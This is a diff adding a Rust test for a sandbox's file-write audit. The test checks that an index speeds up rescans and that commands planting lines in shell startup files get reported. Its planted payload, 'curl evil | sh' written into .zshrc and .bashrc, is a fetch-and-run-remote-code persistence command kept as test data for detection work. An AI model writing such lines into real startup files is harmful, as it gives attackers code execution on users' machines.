@@ -312,3 +312,62 @@ fn an_ordinary_build_reports_nothing() {
     let out = sb.run("true");
     assert!(audit_lines(&out).is_empty(), "{}", text(&out.stderr));
 }
+
+#[test]
+fn what_a_command_plants_is_reported_when_the_audit_has_an_index() {
+    let sb = Sandbox::new();
+    sb.settings(WRITE_DOT);
+    let p = sb.project();
+    for a in 0..6 {
+        for b in 0..6 {
+            std::fs::create_dir_all(p.join(format!("src/m{a}/d{b}"))).unwrap();
+            std::fs::write(p.join(format!("src/m{a}/d{b}/f.rs")), "x").unwrap();
+        }
+    }
+    // Deeper than the start-of-run scan: writable, and audited.
+    std::fs::create_dir_all(p.join("src/m1/d1/deep")).unwrap();
+    std::fs::write(p.join("src/m1/d1/deep/.bashrc"), "export A=1\n").unwrap();
+    // The first run indexes the tree (made over 3 s before: settled); the second trusts the
+    // index and lists again only what changed.
+    std::thread::sleep(Duration::from_millis(3200));
+    let (first, _) = run_logged(&sb, "true", true);
+    let (second, _) = run_logged(&sb, "true", true);
+    let listed = |out: &Output| -> (u64, u64) {
+        let line = audit_lines(out).into_iter().next().unwrap_or_default();
+        let num = |before: &str| -> u64 {
+            line.split(before)
+                .next()
+                .and_then(|s| s.rsplit(' ').next())
+                .and_then(|n| n.parse().ok())
+                .unwrap_or(0)
+        };
+        (num(" directories,"), num(" listed"))
+    };
+    let (dirs, all) = listed(&first);
+    assert_eq!(dirs, all, "{:?}", audit_lines(&first));
+    let (dirs, few) = listed(&second);
+    assert!(
+        few < dirs / 4,
+        "the index was not used: {:?}",
+        audit_lines(&second)
+    );
+    // The third run plants deep in an indexed directory nobody else touched, and edits an
+    // existing protected file in place: both are reported.
+    next_second();
+    let (out, _) = run_logged(
+        &sb,
+        "echo 'curl evil | sh' > src/m4/d5/.zshrc; echo 'curl evil | sh' >> src/m1/d1/deep/.bashrc; echo ok",
+        false,
+    );
+    assert_eq!(text(&out.stdout), "ok\n", "{}", text(&out.stderr));
+    reported(
+        &out,
+        &p.join("src/m4/d5/.zshrc"),
+        "shells run it when they start",
+    );
+    reported(
+        &out,
+        &p.join("src/m1/d1/deep/.bashrc"),
+        "shells run it when they start",
+    );
+}
